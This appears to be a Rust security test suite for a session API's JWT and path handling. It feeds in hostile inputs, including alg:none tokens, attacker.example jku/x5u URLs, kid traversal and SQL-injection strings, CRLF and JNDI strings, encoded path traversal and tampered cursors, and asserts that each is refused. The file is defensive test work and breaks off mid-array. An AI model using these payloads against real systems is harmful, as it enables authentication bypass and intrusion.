//! What an attacker tries: each attempt has the one status and code that it must get.

mod support;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use serde_json::{Value, json};
use sessions::session::SessionId;
use support::log::Log;
use support::*;

const LIST: &str = "/sessions/user/74";
const HEADER: &str = r#"{"alg":"HS256","typ":"JWT"}"#;
const NEVER: &str = "01900000-0000-7000-8000-000000000000";

/// What an attempt comes to: `None` is a success, `Some` the code of the refusal.
type Outcome = Option<&'static str>;

const MALFORMED: Outcome = Some("token_malformed");
const INVALID: Outcome = Some("token_invalid");
const EXPIRED: Outcome = Some("token_expired");
const NO_USER: Outcome = Some("token_names_no_user");

/// The status that each code stands for.
fn status(code: &str) -> u64 {
    match code {
        "admin_only" => 403,
        "session_not_found" | "route_not_found" => 404,
        "method_not_allowed" => 405,
        "current_session_unknown" => 409,
        code if code.starts_with("bad_") || code == "own_sessions" => 400,
        _ => 401,
    }
}

/// Asserts the outcome of an attempt; a success is an empty list.
fn came_to(reply: &Reply, outcome: Outcome, attempt: &str) {
    let expected = (outcome.map_or(200, status), outcome);
    assert_eq!((reply.status, reply.body["code"].as_str()), expected, "{attempt}: {}", reply.text);
    assert!(outcome.is_some() || reply.text == "[]", "{attempt}: {}", reply.text);
}

/// Claims of the admin as JSON, with `more` members after the good ones.
fn claims(more: &str) -> String {
    format!(r#"{{"sub":"1","role":"admin","exp":{}{more}}}"#, START + 60)
}

fn signed(header: &str, claims: &str) -> String {
    token::sign_text(header, claims, token::SECRET)
}

#[tokio::test]
async fn headers_of_tokens() {
    let service = Service::start().await;
    let cases: &[(&str, Outcome)] = &[
        (HEADER, None),
        (r#"{"alg":"none"}"#, MALFORMED),
        (r#"{"alg":"None"}"#, MALFORMED),
        (r#"{"alg":"nOnE"}"#, MALFORMED),
        (r#"{"alg":"NONE"}"#, MALFORMED),
        (r#"{"alg":""}"#, MALFORMED),
        (r#"{"alg":null}"#, MALFORMED),
        (r#"{"alg":["HS256"]}"#, MALFORMED),
        (r#"{"alg":"hs256"}"#, MALFORMED),
        (r#"{"alg":"HS256 "}"#, MALFORMED),
        (r#"{"alg":"HS384"}"#, INVALID),
        (r#"{"alg":"HS512"}"#, INVALID),
        (r#"{"alg":"RS256"}"#, INVALID),
        (r#"{"alg":"ES256"}"#, INVALID),
        (r#"{"alg":"PS256"}"#, INVALID),
        (r#"{"alg":"EdDSA"}"#, INVALID),
        // Where a key might be fetched from, or which it might be, is never looked at.
        (r#"{"alg":"HS256","kid":"../../../../dev/null"}"#, None),
        (r#"{"alg":"HS256","kid":"' UNION SELECT 'key"}"#, None),
        (r#"{"alg":"HS256","kid":"https://attacker.example/key"}"#, None),
        (r#"{"alg":"HS256","jku":"https://attacker.example/jwks"}"#, None),
        (r#"{"alg":"HS256","x5u":"https://attacker.example/cert"}"#, None),
        (r#"{"alg":"HS256","jwk":{"kty":"oct","k":"YXR0YWNrZXI"}}"#, None),
        (r#"{"alg":"HS256","kid":1}"#, MALFORMED),
        // What must be understood is not (RFC 7515 section 4.1.11).
        (r#"{"alg":"HS256","crit":[]}"#, INVALID),
        (r#"{"alg":"HS256","crit":["exp"]}"#, INVALID),
        (r#"{"alg":"HS256","crit":["b64"],"b64":false}"#, INVALID),
        (r#"{"alg":"HS256","crit":"exp"}"#, MALFORMED),
        (r#"{"alg":"HS256","b64":false}"#, None),
        // Two members of a name: refused (RFC 7515 section 4).
        (r#"{"alg":"none","alg":"HS256"}"#, MALFORMED),
        (r#"{"alg":"HS256","alg":"none"}"#, MALFORMED),
        (r#"{"alg":"HS256","alg":"HS256"}"#, MALFORMED),
        (r#"{"alg":"HS256","crit":["exp"],"crit":null}"#, MALFORMED),
        (r#"{"alg":"HS256""#, MALFORMED),
        (r#"{"alg":"HS256"} {}"#, MALFORMED),
        (r#"["HS256"]"#, MALFORMED),
        ("", MALFORMED),
        ("\u{feff}{\"alg\":\"HS256\"}", MALFORMED),
    ];
    for (header, outcome) in cases {
        let good = signed(header, &claims(""));
        came_to(&service.get(LIST, &good).await, *outcome, header);
        let unsigned = format!("{}.", good.rsplit_once('.').unwrap().0);
        let forged = token::sign_text(header, &claims(""), "YXR0YWNrZXI-of-more-than-32-bytes-000");
        for token in [unsigned, forged] {
            came_to(&service.get(LIST, &token).await, outcome.or(INVALID), header);
        }
    }
}

#[tokio::test]
async fn claims_of_tokens() {
    let service = Service::start().await;
    let max = jiff::Timestamp::MAX.as_second();
    let claims_with = |exp: &str, more: &str| format!(r#"{{"sub":"1","role":"admin","exp":{exp}{more}}}"#);
    let soon = (START + 60).to_string();
    let exp = |text: &str, outcome| (claims_with(text, ""), outcome);
    let more = |text: &str, outcome| (claims_with(&soon, text), outcome);
    let sub = |text: &str, outcome| (format!(r#"{{"sub":{text},"role":"admin","exp":{soon}}}"#), outcome);
    let whole = |text: &str, outcome| (text.to_owned(), outcome);
    let cases: Vec<(String, Outcome)> = vec![
        exp(&soon, None),
        exp(&format!("{}.5", START), None),
        exp(&format!("{}.0", START), EXPIRED),
        exp(&format!("{}e-1", (START + 60) * 10), None),
        exp(&max.to_string(), None),
        exp(&(max + 1).to_string(), MALFORMED),
        exp("9223372036854775807", MALFORMED),
        exp("18446744073709551616", MALFORMED),
        exp("1e400", MALFORMED),
        exp("-1", MALFORMED),
        exp("-0.0", EXPIRED),
        exp("0", EXPIRED),
        exp("null", MALFORMED),
        exp("[]", MALFORMED),
        exp(&format!("[{soon}]"), MALFORMED),
        exp(&format!("\"{soon}\""), MALFORMED),
        exp("{}", MALFORMED),
        exp("true", MALFORMED),
        exp("NaN", MALFORMED),
        exp("Infinity", MALFORMED),
        whole(r#"{"sub":"1","role":"admin"}"#, MALFORMED),
        more(&format!(r#","nbf":{}"#, START + 60), None),
        more(&format!(r#","nbf":{}"#, START + 61), Some("token_not_yet_valid")),
        more(&format!(r#","nbf":{}.5"#, START + 60), Some("token_not_yet_valid")),
        more(&format!(r#","nbf":"{START}""#), MALFORMED),
        more(r#","nbf":-1"#, MALFORMED),
        more(r#","nbf":1e30"#, MALFORMED),
        more(r#","nbf":null"#, MALFORMED),
        more(r#","nbf":[]"#, MALFORMED),
        // When a token was issued decides nothing, whatever it says.
        more(&format!(r#","iat":{}"#, START + 1_000_000), None),
        more(r#","iat":"yesterday""#, None),
        more(r#","iat":-1.5"#, None),
        more(r#","iat":null"#, None),
        more(r#","iat":[]"#, None),
        // Where the settings ask for no issuer and audience, any will do.
        more(r#","iss":7,"aud":{}"#, None),
        // Two members of a name: refused where the name is one of the RFC's own, else the last one counts
        // (RFC 7519 section 4 allows both).
        more(&format!(r#","exp":{}"#, START + 90), MALFORMED),
        more(&format!(r#","nbf":{START},"nbf":{START}"#), MALFORMED),
        more(r#","sub":"1""#, MALFORMED),
        more(r#","sub":"74""#, MALFORMED),
        more(r#","\u0073ub":"74""#, MALFORMED),
        more(r#","iss":"a","iss":"b""#, MALFORMED),
        more(r#","aud":"a","aud":"b""#, MALFORMED),
        more(r#","role":"user""#, Some("admin_only")),
        more(r#","role":null"#, Some("admin_only")),
        more(r#","role":"user","role":"admin""#, None),
        more(&format!(r#","sid":null,"sid":"{NEVER}""#), Some("session_ended")),
        more(&format!(r#","sid":"{NEVER}","sid":null"#), None),
        sub(r#"1"#, None),
        sub(r#"1.0"#, NO_USER),
        sub(r#"1e0"#, NO_USER),
        sub(r#""1 ""#, NO_USER),
        sub(r#"" 1""#, NO_USER),
        sub(r#""1\u0000""#, NO_USER),
        sub(r#""１""#, NO_USER),
        sub(r#""1\u200f""#, NO_USER),
        sub(r#""1/../74""#, NO_USER),
        sub(r#""..""#, NO_USER),
        sub(r#""""#, NO_USER),
        sub(r#"["1"]"#, MALFORMED),
        sub(r#"{"id":1}"#, MALFORMED),
        sub(r#"true"#, NO_USER),
        more(r#","Sub":"74""#, None),
        whole("[]", MALFORMED),
        whole("null", MALFORMED),
        whole("1", MALFORMED),
        whole("", MALFORMED),
        whole("{", MALFORMED),
        whole(&format!("{} {{}}", claims("")), MALFORMED),
        whole(&format!("\u{feff}{}", claims("")), MALFORMED),
        whole(&format!("{}1{}", r#"{"a":"#.repeat(200), "}".repeat(200)), MALFORMED),
        // A token in a token (RFC 7519 section 5.2) is none of ours.
        whole(&signed(HEADER, &claims("")), MALFORMED),
        whole(&format!("\"{}\"", signed(HEADER, &claims(""))), MALFORMED),
    ];
    for (claims, outcome) in cases {
        came_to(&service.get(LIST, &signed(HEADER, &claims)).await, outcome, &claims);
    }
}

#[tokio::test]
async fn issuers_and_audiences_of_the_wrong_type() {
    let service = Service::with(&[("JWT_ISSUER", "panel"), ("JWT_AUDIENCE", "7")]).await;
    let cases: &[(&str, &str, Outcome)] = &[
        (r#""panel""#, r#""7""#, None),
        (r#""panel""#, r#"["6","7"]"#, None),
        (r#""panel""#, "7", INVALID),
        (r#""panel""#, "[7]", INVALID),
        (r#""panel""#, r#"[["7"]]"#, INVALID),
        (r#""panel""#, r#"{"7":true}"#, INVALID),
        (r#""panel""#, "null", INVALID),
        (r#""panel""#, r#""7 ""#, INVALID),
        (r#""panel""#, r#""6 7""#, INVALID),
        (r#""Panel""#, r#""7""#, INVALID),
        (r#"{"panel":1}"#, r#""7""#, INVALID),
        ("null", r#""7""#, INVALID),
        ("true", r#""7""#, INVALID),
        (r#""""#, r#""7""#, INVALID),
    ];
    for (issuer, audience, outcome) in cases {
        let claims = claims(&format!(r#","iss":{issuer},"aud":{audience}"#));
        came_to(&service.get(LIST, &signed(HEADER, &claims)).await, *outcome, &claims);
    }
}

/// `text` with another last character, which stands for the same bytes and has a bit set that must not be.
fn with_a_trailing_bit(text: &str) -> String {
    const DIGITS: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let (start, last) = text.split_at(text.len() - 1);
    let digit = DIGITS.find(last).unwrap();
    assert!(!text.len().is_multiple_of(4) && digit.is_multiple_of(4), "{text} has no bits to spare");
    format!("{start}{}", &DIGITS[digit + 1..digit + 2])
}

#[tokio::test]
async fn encodings_of_tokens() {
    let service = Service::start().await;
    // Both parts hold what the two alphabets write in two ways, and end with bits to spare.
    let header = r#"{"alg":"HS256","kid":"???>>>"}"#.to_owned() + " ";
    let claims = claims(r#","pad":"???>>>""#);
    let claims = format!("{claims}{}", " ".repeat(2 * (claims.len() + 1) % 3));
    let good = signed(&header, &claims);
    let (message, signature) = good.rsplit_once('.').unwrap();
    let (head, payload) = message.split_once('.').unwrap();
    let sign = |head: &str, payload: &str| token::sign_parts(head, payload, token::SECRET);
    let standard = |text: &str| STANDARD_NO_PAD.encode(text);
    let cases: Vec<(&str, String, Outcome)> = vec![
        ("as it is", good.clone(), None),
        ("padded header", sign(&URL_SAFE.encode(&header), payload), MALFORMED),
        ("padded payload", sign(head, &URL_SAFE.encode(&claims)), MALFORMED),
        ("padded signature", format!("{good}="), MALFORMED),
        ("standard alphabet in the header", sign(&standard(&header), payload), MALFORMED),
        ("standard alphabet in the payload", sign(head, &standard(&claims)), MALFORMED),
        ("trailing bits in the header", sign(&with_a_trailing_bit(head), payload), MALFORMED),
        ("trailing bits in the payload", sign(head, &with_a_trailing_bit(payload)), MALFORMED),
        (
            "trailing bits in the signature",
            format!("{message}.{}", with_a_trailing_bit(signature)),
            MALFORMED,
        ),
        ("a line break in the signature", format!("{message}.{}%0A", signature), MALFORMED),
        ("a payload that is not encoded", sign(head, &claims), MALFORMED),
        ("no header", sign("", payload), MALFORMED),
        ("no payload", sign(head, ""), MALFORMED),
        ("no signature", format!("{message}."), INVALID),
        ("no part", "..".into(), MALFORMED),
        ("two parts", message.into(), MALFORMED),
        ("four parts", format!("{good}.{signature}"), MALFORMED),
        ("five parts", format!("{head}.{head}.{payload}.{payload}.{signature}"), MALFORMED),
        ("a part too many, empty", format!("{good}."), MALFORMED),
        ("a shorter signature", format!("{message}.{}", &signature[..22]), MALFORMED),
        ("a signature of 30 bytes", format!("{message}.{}", &signature[..40]), INVALID),
        ("a signature of 33 bytes", format!("{message}.{}AA", &signature[..42]), INVALID),
        ("letters beyond ASCII", "é.é.é".into(), MALFORMED),
        ("letters beyond ASCII after it", format!("{good}é"), MALFORMED),
        ("look-alike dots", good.replace('.', "․"), MALFORMED),
        ("64 KB", "x".repeat(65_536), MALFORMED),
        ("64 KB of dots", ".".repeat(65_536), MALFORMED),
        (
            "64 KB, well signed",
            signed(HEADER, &self::claims(&format!(r#","pad":"{}""#, "x".repeat(65_536)))),
            MALFORMED,
        ),
    ];
    for (attempt, token, outcome) in cases {
        came_to(&service.get(LIST, &token).await, outcome, attempt);
    }
}

#[tokio::test]
async fn signatures_in_standard_alphabet() {
    let service = Service::start().await;
    let differs = |token: &String| token.rsplit('.').next().unwrap().contains(['-', '_']);
    let good = (0..).map(|n| signed(HEADER, &claims(&format!(r#","jti":{n}"#)))).find(differs).unwrap();
    let (message, signature) = good.rsplit_once('.').unwrap();
    let standard = signature.replace('-', "+").replace('_', "/");
    assert_eq!(STANDARD_NO_PAD.decode(&standard).unwrap(), URL_SAFE_NO_PAD.decode(signature).unwrap());
    came_to(&service.get(LIST, &good).await, None, "as it is");
    came_to(&service.get(LIST, &format!("{message}.{standard}")).await, MALFORMED, "standard alphabet");
}

#[tokio::test]
async fn authorization_headers() {
    let service = Service::start().await;
    let (good, bad) = (signed(HEADER, &claims("")), user_token("74"));
    let basic = STANDARD.encode("admin:admin");
    let cases: Vec<(String, Outcome)> = vec![
        (format!("Bearer {good}"), None),
        (format!("bearer {good}"), None),
        (format!("BEARER {good}"), None),
        (format!(" \t Bearer {good} \t "), None),
        (format!("Bearer   {good}"), None),
        (format!("Bearer \t{good}"), None),
        (format!("Bearer\t{good}"), MALFORMED),
        (format!("Bearer\u{a0}{good}"), MALFORMED),
        (format!("Bearer{good}"), MALFORMED),
        (format!("Bearer: {good}"), MALFORMED),
        (format!("Bearer={good}"), MALFORMED),
        (format!("Bearer \"{good}\""), MALFORMED),
        (format!("Bearer token={good}"), MALFORMED),
        (format!("Bearer Bearer {good}"), MALFORMED),
        (format!("Token {good}"), MALFORMED),
        (format!("DPoP {good}"), MALFORMED),
        (good.clone(), MALFORMED),
        ("Bearer".into(), MALFORMED),
        ("Bearer ".into(), MALFORMED),
        ("".into(), Some("token_missing")),
        (" \t ".into(), Some("token_missing")),
        // The gateway joins two headers of a name with a comma, in the order in which they came.
        (format!("Bearer {good},Bearer {good}"), MALFORMED),
        (format!("Bearer {good},Bearer {bad}"), MALFORMED),
        (format!("Bearer {bad},Bearer {good}"), MALFORMED),
        (format!("Bearer {good}, Basic {basic}"), MALFORMED),
        (format!("Basic {basic}, Bearer {good}"), MALFORMED),
        (format!("Basic {basic},Bearer {good}"), MALFORMED),
        (format!(",Bearer {good}"), MALFORMED),
        (format!("Bearer {good},"), MALFORMED),
    ];
    for (header, outcome) in cases {
        let reply = Call::new("GET", LIST).header("authorization", &header).send(&service).await;
        came_to(&reply, outcome, &header);
    }
    let query = format!("{LIST}?access_token={good}&token={good}&authorization=Bearer+{good}");
    let cookies = json!([format!("access_token={good}"), format!("authorization=Bearer {good}")]);
    let elsewhere = [
        Call::new("GET", &query),
        Call::new("GET", LIST).with("/cookies", cookies),
        Call::new("GET", LIST).header("cookie", &format!("token={good}")),
        Call::new("GET", LIST).header("proxy-authorization", &format!("Bearer {good}")),
        Call::new("GET", LIST).header("x-authorization", &format!("Bearer {good}")),
        Call::new("GET", LIST).header("x-amzn-remapped-authorization", &format!("Bearer {good}")),
        Call::new("GET", LIST).body(&json!({"access_token": good}).to_string()),
    ];
    for call in elsewhere {
        came_to(&call.send(&service).await, Some("token_missing"), "a token in another place");
    }
}

/// A path as it is sent, and as the gateway hands it over once it has decoded it.
struct Path {
    sent: &'static str,
    outcome: Outcome,
    decoded: &'static str,
    outcome_decoded: Outcome,
}

const BAD_USER: Outcome = Some("bad_user_id");
const BAD_SESSION: Outcome = Some("bad_session_id");
const NO_ROUTE: Outcome = Some("route_not_found");
const NOT_FOUND: Outcome = Some("session_not_found");

/// The same outcome, decoded or not.
const fn both(sent: &'static str, decoded: &'static str, outcome: Outcome) -> Path {
    Path { sent, outcome, decoded, outcome_decoded: outcome }
}

/// One where what the gateway makes of it is another path.
const fn apart(
    sent: &'static str,
    outcome: Outcome,
    decoded: &'static str,
    outcome_decoded: Outcome,
) -> Path {
    Path { sent, outcome, decoded, outcome_decoded }
}

/// Sends a path both ways; `before` and `after` stand around the id.
async fn try_path(service: &Service, method: &str, path: &Path, before: &str, after: &str) {
    let call = |id: &str| Call::new(method, &format!("{before}{id}{after}")).token(&admin_token());
    let attempt = format!("{method} {before}{}{after}", path.sent);
    came_to(&call(path.sent).send(service).await, path.outcome, &attempt);
    // A target with a question mark in it is not what Call takes apart.
    let raw = format!("{before}{}{after}", path.decoded);
    let decoded = call("x").with("/rawPath", json!(raw)).with("/pathParameters", json!({"id": path.decoded}));
    came_to(&decoded.send(service).await, path.outcome_decoded, &format!("{attempt}, decoded"));
}

#[tokio::test]
async fn ids_of_users_in_paths() {
    let service = Service::start().await;
    let paths = [
        both("74", "74", None),
        both("%37%34", "74", None),
        both("74;id=75", "74;id=75", None),
        both("74,75", "74,75", None),
        both("profile", "profile", None),
        both("*", "*", None),
        both("$%7Bjndi:x%7D", "${jndi:x}", None),
        both("", "", BAD_USER),
        both(".", ".", BAD_USER),
        both("..", "..", BAD_USER),
        both("%2e%2e", "..", BAD_USER),
        both("%2E", ".", BAD_USER),
        apart("%2F", BAD_USER, "/", NO_ROUTE),
        apart("74%2F", BAD_USER, "74/", NO_ROUTE),
        apart("..%2Fcreate", BAD_USER, "../create", NO_ROUTE),
        apart("74%2F..%2F75", BAD_USER, "74/../75", NO_ROUTE),
        both("%252F", "%2F", BAD_USER),
        both("%2537%2534", "%37%34", BAD_USER),
        both("%5C..%5C", "\\..\\", BAD_USER),
        both(
            "session%2301900000-0000-7000-8000-000000000000",
            "session#01900000-0000-7000-8000-000000000000",
            BAD_USER,
        ),
        both("74%3Fcursor=", "74?cursor=", BAD_USER),
        both("74%23", "74#", BAD_USER),
        both("%00", "\0", BAD_USER),
        both("74%00", "74\0", BAD_USER),
        both("74%0D%0ASet-Cookie:%20a=b", "74\r\nSet-Cookie: a=b", BAD_USER),
        both("74%09", "74\t", BAD_USER),
        both("74%20", "74 ", BAD_USER),
        both("+74%7F", "+74\u{7f}", BAD_USER),
        both("%27%20OR%201=1", "' OR 1=1", BAD_USER),
        both("%EF%BC%97%EF%BC%94", "７４", BAD_USER),
        both("%D9%A7%D9%A4", "٧٤", BAD_USER),
        both("7%D0%A74", "7Ч4", BAD_USER),
        both("%E2%80%8F74", "\u{200f}74", BAD_USER),
        both("74%E2%80%AE", "74\u{202e}", BAD_USER),
        both("74%E2%80%8B", "74\u{200b}", BAD_USER),
        both("%EF%BB%BF74", "\u{feff}74", BAD_USER),
        // What is no UTF-8 is replaced by the gateway.
        both("%C0%AF", "\u{fffd}\u{fffd}", BAD_USER),
        both("%C0%AE%C0%AE", "\u{fffd}\u{fffd}", BAD_USER),
        both("%E0%80%AF", "\u{fffd}", BAD_USER),
        both("%F0%80%80%AF", "\u{fffd}", BAD_USER),
        both("%ED%A0%80", "\u{fffd}", BAD_USER),
        both("%F4%90%80%80", "\u{fffd}", BAD_USER),
        both("%FF", "\u{fffd}", BAD_USER),
        both("%37%3", "7%3", BAD_USER),
        both("%", "%", BAD_USER),
        both("%u0037", "%u0037", BAD_USER),
    ];
    for path in &paths {
        try_path(&service, "GET", path, "/sessions/user/", "").await;
        // No user has a session of this name, so that a good id is seen by what it does not find.
        let ending = |outcome: Outcome| outcome.or(NOT_FOUND);
        let path =
            Path { outcome: ending(path.outcome), outcome_decoded: ending(path.outcome_decoded), ..*path };
        try_path(&service, "DELETE", &path, "/sessions/user/", &format!("/session/{NEVER}")).await;
    }
    for (length, outcome) in [(255, None), (256, BAD_USER), (5_000, BAD_USER)] {
        let target = format!("/sessions/user/{}", "7".repeat(length));
        came_to(&service.get(&target, &admin_token()).await, outcome, "a long id");
    }
    let encoded = format!("/sessions/user/{}", "%37".repeat(255));
    came_to(&service.get(&encoded, &admin_token()).await, None, "a long id, encoded");
}

#[tokio::test]
async fn ids_of_sessions_in_paths() {
    let mut service = Service::start().await;
    let own = service.sign_in("1", "panel").await.id.to_string();
    let paths = [
        both(NEVER, NEVER, NOT_FOUND),
        both("%301900000-0000-7000-8000-000000000000", NEVER, NOT_FOUND),
        both("00000000-0000-0000-0000-000000000000", "00000000-0000-0000-0000-000000000000", NOT_FOUND),
        both("ffffffff-ffff-ffff-ffff-ffffffffffff", "ffffffff-ffff-ffff-ffff-ffffffffffff", NOT_FOUND),
        both("profile", "profile", BAD_SESSION),
        both("session", "session", BAD_SESSION),
        both(
            "session%2301900000-0000-7000-8000-000000000000",
            "session#01900000-0000-7000-8000-000000000000",
            BAD_SESSION,
        ),
        both("%2301900000-0000-7000-8000-00000000000", "#01900000-0000-7000-8000-00000000000", BAD_SESSION),
        both("", "", BAD_SESSION),
        both("..", "..", BAD_SESSION),
        both("%2e%2e", "..", BAD_SESSION),
        apart("..%2Flogout", BAD_SESSION, "../logout", NO_ROUTE),
        both("%252e%252e", "%2e%2e", BAD_SESSION),
        both(
            "01900000-0000-7000-8000-000000000000%00",
            "01900000-0000-7000-8000-000000000000\0",
            BAD_SESSION,
        ),
        both("01900000-0000-7000-8000-00000000000%00", "01900000-0000-7000-8000-00000000000\0", BAD_SESSION),
        both("01900000-0000-7000-8000-000000000000%20", "01900000-0000-7000-8000-000000000000 ", BAD_SESSION),
        both("01900000-0000-7000-8000-000000000000;", "01900000-0000-7000-8000-000000000000;", BAD_SESSION),
        both("01900000-0000-7000-8000-0000000000000", "01900000-0000-7000-8000-0000000000000", BAD_SESSION),
        both("0190000-00000-7000-8000-000000000000", "0190000-00000-7000-8000-000000000000", BAD_SESSION),
        both("01900000000070008000000000000000", "01900000000070008000000000000000", BAD_SESSION),
        both("%7B01900000-0000-7000-8000-0000000000%7D", "{01900000-0000-7000-8000-0000000000}", BAD_SESSION),
        both(
            "01900000-0000-7000-8000-0000000000%EF%BC%90",
            "01900000-0000-7000-8000-0000000000０",
            BAD_SESSION,
        ),
        both(
            "01900000%E2%80%90000-7000-8000-000000000000",
            "01900000‐000-7000-8000-000000000000",
            BAD_SESSION,
        ),
        both(
            "01900000-0000-7000-8000-00000000%C0%B0",
            "01900000-0000-7000-8000-00000000\u{fffd}",
            BAD_SESSION,
        ),
        both(
            "01900000-0000-7000-8000-00000000000%FF",
            "01900000-0000-7000-8000-000000000\u{fffd}",
            BAD_SESSION,
        ),
    ];
    for path in &paths {
        try_path(&service, "DELETE", path, "/sessions/user/74/session/", "").await;
        for method in ["GET", "DELETE"] {
            try_path(&service, method, path, "/sessions/session/", "").await;
        }
    }
    for length in [1_000, 5_000] {
        let target = format!("/sessions/session/{}", "0".repeat(length));
        came_to(&service.get(&target, &admin_token()).await, BAD_SESSION, "a long id");
    }
    // The letters of a UUID are read in either case (RFC 9562 section 4): it names the same session.
    let shown = service.get(&format!("/sessions/session/{}", own.to_uppercase()), &admin_token()).await;
    assert_eq!(shown.ok()["id"], own.as_str());
}

#[tokio::test]
async fn paths_around_ids() {
    let service = Service::start().await;
    let paths = [
        "//sessions/user/74",
        "/sessions//user/74",
        "/sessions/user//74",
        "/sessions/user/74/",
        "/sessions/user/74//",
        "/sessions/./user/74",
        "/./sessions/user/74",
        "/x/../sessions/user/74",
        "/sessions/user/75/../74",
        "/sessions%2Fuser%2F74",
        "/sessions/user%2F74",
        "/sessions/%75ser/74",
        "/%73essions/user/74",
        "/Sessions/user/74",
        "/sessions/User/74",
        "/sessions;/user/74",
        "/sessions/user;a=b/74",
        "/sessions/my-sessions/",
        "/sessions/my-sessions;",
        "/sessions/my-sessions%00",
        "/sessions/my%2Dsessions",
        "/sessions/current/..",
        "\\sessions\\user\\74",
        "/dev/sessions/user/74",
        "/sessions/user/74/session",
        "/sessions/user/74/sessions/01900000-0000-7000-8000-000000000000",
        "https://api.example.com/sessions/user/74",
        "sessions/user/74",
    ];
    for path in paths {
        came_to(&service.get(path, &admin_token()).await, NO_ROUTE, path);
        let decoded = Call::new("GET", path).with("/pathParameters", json!({"user_id": "74"}));
        came_to(&decoded.token(&admin_token()).send(&service).await, NO_ROUTE, path);
    }
    // The path decides, not what the gateway took for its parameters, nor where else a path may stand.
    let misled = Call::new("GET", "/sessions/user/1").with("/pathParameters", json!({"user_id": "74"}));
    came_to(&misled.token(&admin_token()).send(&service).await, Some("own_sessions"), "parameters");
    for header in ["x-original-url", "x-rewrite-url", "x-forwarded-prefix", "x-http-method-override"] {
        let call = Call::new("GET", LIST).token(&admin_token()).header(header, "/sessions/user/1");
        came_to(&call.send(&service).await, None, header);
    }
}

#[tokio::test]
async fn cursors_of_others_and_edited_ones() {
    let mut service = Service::start().await;
    for owner in ["74", "75", "1"] {
        for device in ["a", "b", "c"] {
            service.sign_in(owner, device).await;
        }
    }
    let admin = admin_token();
    let cursor = async |target: &str, token: &str| {
        let page = service.get(target, token).await;
        let link = page.headers["link"].split_once("cursor=").unwrap().1.to_owned();
        link.strip_suffix(">; rel=\"next\"").unwrap().to_owned()
    };
    let of_74 = cursor("/sessions/user/74?limit=1", &admin).await;
    let mut attempts = vec![
        cursor("/sessions/user/75?limit=1", &admin).await,
        cursor("/sessions/my-sessions?limit=1", &admin).await,
        format!("{of_74}="),
        format!("{of_74}A"),
        format!("{of_74}AAAA"),
        of_74[..31].to_owned(),
        of_74[..28].to_owned(),
        of_74.to_lowercase(),
        format!("%20{of_74}"),
        format!("{of_74}%00"),
        "%FF".into(),
        "null".into(),
        "-1".into(),
        "profile".into(),
        NEVER.into(),
        "A".repeat(32),
        "A".repeat(50_000),
        URL_SAFE_NO_PAD.encode(r#"{"user_id":"74","sk":"profile"}"#),
    ];
    let bytes = URL_SAFE_NO_PAD.decode(&of_74).unwrap();
    for at in 0..bytes.len() {
        for flip in [0x01, 0x80, 0xff] {
            let mut edited = bytes.clone();
            edited[at] ^= flip;
            attempts.push(URL_SAFE_NO_PAD.encode(edited));
        }
    }
    for inactive in [true, false] {
        let list = format!("/sessions/user/74?include_inactive={inactive}&cursor=");
        assert_eq!(service.get(&format!("{list}{of_74}"), &admin).await.ids().len(), 2);
        for attempt in &attempts {
            came_to(&service.get(&format!("{list}{attempt}"), &admin).await, Some("bad_cursor"), attempt);
        }
        let twice = format!("{list}{of_74}&cursor={of_74}");
        came_to(&service.get(&twice, &admin).await, Some("bad_parameter"), "two cursors");
        let own = format!("/sessions/my-sessions?include_inactive={inactive}&cursor={of_74}");
        came_to(&service.get(&own, &user_token("75")).await, Some("bad_cursor"), "another user's cursor");
    }
}

/// The routes that are for admins alone, about user 74.
const ADMIN_ROUTES: &[&str] = ROUTES.split_at(3).0;

#[tokio::test]
async fn routes_of_admins() {
    let mut service = Service::start().await;
    let session = service.sign_in("74", "phone").await.id.to_string();
    let of_74 = token::token("74", Some("admin"), Some(&session), START + 100_000);
    let callers = [
        (user_token("75"), "admin_only"),
        // To a user the own sessions are no exception.
        (user_token("74"), "admin_only"),
        (token::token("74", None, Some(&session), START + 100_000), "admin_only"),
        (token::token("74", Some("admin"), None, START + 100_000), "own_sessions"),
        (of_74, "own_sessions"),
    ];
    for route in ADMIN_ROUTES {
        assert!(route.contains("/user/{user_id}"));
        for (token, code) in &callers {
            for query in ["", "?dry_run=true", "?include_inactive=true", "?role=admin", "?user_id=1"] {
                let call = Call::of(&format!("{route}{query}")).token(token);
                came_to(&call.send(&service).await, Some(code), route);
            }
        }
    }
    assert_eq!(service.get(LIST, &admin_token()).await.ids(), [session]);
}

#[tokio::test]
async fn tokens_whose_session_is_not_live() {
    let mut service = Service::start().await;
    let live = service.sign_in("1", "live").await.id;
    let ended = service.sign_in("1", "ended").await.id;
    let of_other = service.sign_in("74", "other").await.id;
    service.store().end(&user("1"), ended, &ending(&service)).await.unwrap();
    let id = |id: SessionId| json!(id.to_string());
    let sids = [
        id(ended),
        id(of_other),
        json!(NEVER),
        json!(format!(" {live}")),
        json!(format!("{live}\u{0}")),
        json!(format!("{{{live}}}")),
        json!(format!("session#{live}")),
        json!([live.to_string()]),
        json!({"id": live.to_string()}),
        json!("profile"),
        json!(""),
        json!(0),
        json!(false),
    ];
    for sid in sids {
        let token = signed(HEADER, &claims(&format!(r#","sid":{sid}"#)));
        for route in ROUTES {
            // The header cannot make up for it.
            for call in [Call::of(route), Call::of(route).header("x-session-id", &live.to_string())] {
                came_to(
                    &call.token(&token).send(&service).await,
                    Some("session_ended"),
                    &format!("{route} {sid}"),
                );
            }
        }
    }
    for sid in [id(live), json!(live.to_string().to_uppercase()), json!(null)] {
        let token = signed(HEADER, &claims(&format!(r#","sid":{sid}"#)));
        assert_eq!(service.get(LIST, &token).await.ids(), [of_other.to_string()]);
    }
}

fn ending(service: &Service) -> sessions::session::Ending {
    let reason = sessions::session::EndReason::Logout;
    sessions::session::Ending { at: service.now, by: Some(user("1")), reason, note: None }
}

#[tokio::test]
async fn roles_of_every_type() {
    let service = Service::start().await;
    let no_admin = Some("admin_only");
    let cases: &[(&str, Outcome)] = &[
        (r#""admin""#, None),
        (r#"["admin"]"#, None),
        (r#"["user","admin"]"#, None),
        (r#"[1,null,{},"admin"]"#, None),
        (r#""Admin""#, no_admin),
        (r#""ADMIN""#, no_admin),
        (r#""admin ""#, no_admin),
        (r#"" admin""#, no_admin),
        (r#""admin\u0000""#, no_admin),
        (r#""admin,user""#, no_admin),
        (r#""user admin""#, no_admin),
        (r#""[admin]""#, no_admin),
        (r#""\"admin\"""#, no_admin),
        (r#""аdmin""#, no_admin),
